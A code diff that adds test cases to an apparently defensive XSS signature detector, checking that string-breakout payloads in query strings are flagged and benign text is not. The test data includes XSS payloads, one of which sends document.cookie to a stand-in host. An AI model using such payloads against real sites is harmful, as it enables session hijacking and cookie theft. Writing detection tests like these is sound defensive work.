@@ -1,4 +1,6 @@
 import { describe, expect, test } from 'vitest';
+import { xss } from '../../../src/attacks/signatures/xss.ts';
+import { formBody, foundIn } from '../found-in.ts';
 import { confidenceOf, xssIn } from './xss-text.ts';
 
 const CALL = 'alert(1)';
@@ -76,6 +78,15 @@ test('markup inside of values is looked into', () => {
     expect(confidenceOf(markup), markup).toBeGreaterThanOrEqual(0.75);
   }
 });
+
+test.each(["'+alert(1)+'", '"+confirm(document.domain)+"', "location='//a.example/'+document.cookie"])(
+  'a plus that an address has as it was typed: %s',
+  (value) => {
+    expect(foundIn(xss, { query: `q=${value}` })).toHaveLength(1);
+    expect(foundIn(xss, { query: 'q="red+alert"+alert+"more"' })).toEqual([]);
+    expect(foundIn(xss, formBody({ q: '"a" print("b") "c"' }))).toEqual([]);
+  },
+);
 
 test('the finding says what it is and where', () => {
   const text = 'Hello <b>you</b><img src=x onerror=alert(1)>';
